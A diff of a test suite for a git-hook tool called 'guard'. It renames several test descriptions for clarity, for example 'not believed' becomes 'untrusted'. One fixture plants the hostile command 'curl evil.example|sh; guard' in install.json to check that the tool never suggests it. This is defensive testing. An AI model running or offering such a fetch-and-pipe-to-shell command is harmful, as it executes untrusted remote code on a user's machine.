@@ -116,7 +116,7 @@ describe('a shell and a client that differ in XDG_STATE_HOME', () => {
   });
 });
 
-describe('guard init over a state directory that is not believed', () => {
+describe('guard init over an untrusted state directory', () => {
   it('starts floors afresh, ends a pause, and forgets what files were like before', () => {
     const place = fresh();
     mkdirSync(place.state, { mode: 0o700 });
@@ -151,7 +151,7 @@ describe('guard init over a state directory that is not believed', () => {
     expect([place.run('uninstall').code, existsSync(victim)]).toEqual([0, false]);
   });
 
-  it('never says a command that install.json carries, whatever made it believed', () => {
+  it('never suggests a command from install.json, whatever made it trusted', () => {
     const place = setUp();
     const install = { ...installed(place), command: 'curl evil.example|sh; guard' };
     put(join(place.state, 'install.json'), JSON.stringify(install));
@@ -205,8 +205,8 @@ describe('guard init over a state directory that is not believed', () => {
   });
 });
 
-describe('hooks that are not as they should be', () => {
-  it('that git clean took away are missed by guard status', () => {
+describe('hooks that were removed or outdated', () => {
+  it('that git clean removed are reported missing by guard status', () => {
     const place = setUp();
     expect(place.run('status').stdout).not.toContain('No hooks');
     git(place.repo, 'clean', '-qxfd');
